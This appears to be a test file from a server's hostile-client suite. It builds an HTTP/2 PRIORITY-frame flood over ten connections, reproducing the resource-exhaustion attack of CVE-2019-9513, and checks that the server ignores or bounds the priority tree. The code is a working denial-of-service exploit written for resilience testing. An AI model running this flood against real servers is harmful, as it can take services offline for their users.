import { defineAttack } from '../../hostile-client.js';
import { FRAME, frame, PREFACE, settings, uint32 } from '../../http2-frames.js';

export const attack = defineAttack(import.meta.url, {
  does: 'ten connections build deep trees of priorities of idle streams and turn them over',
  bound: 'priorities are ignored, or their tree is bounded (CVE-2019-9513)',
  port: 'grpc',
  async run(client) {
    const frames = Buffer.concat(
      Array.from({ length: 10_000 }, (_, index) => {
        const parent = index % 2 === 0 ? 2 * index + 1 : (0x80000000 | (2 * (index - 1) + 1)) >>> 0;
        return frame(FRAME.priority, 0, 2 * index + 3, Buffer.concat([uint32(parent), Buffer.of(255)]));
      }),
    );
    const sockets = Array.from({ length: 10 }, () => client.socket());
    for (const socket of sockets) socket.write(Buffer.concat([PREFACE, settings()]));
    await client.repeat(50, () => {
      for (const socket of sockets) if (socket.writable && socket.writableLength < 1e6) socket.write(frames);
    });
  },
});
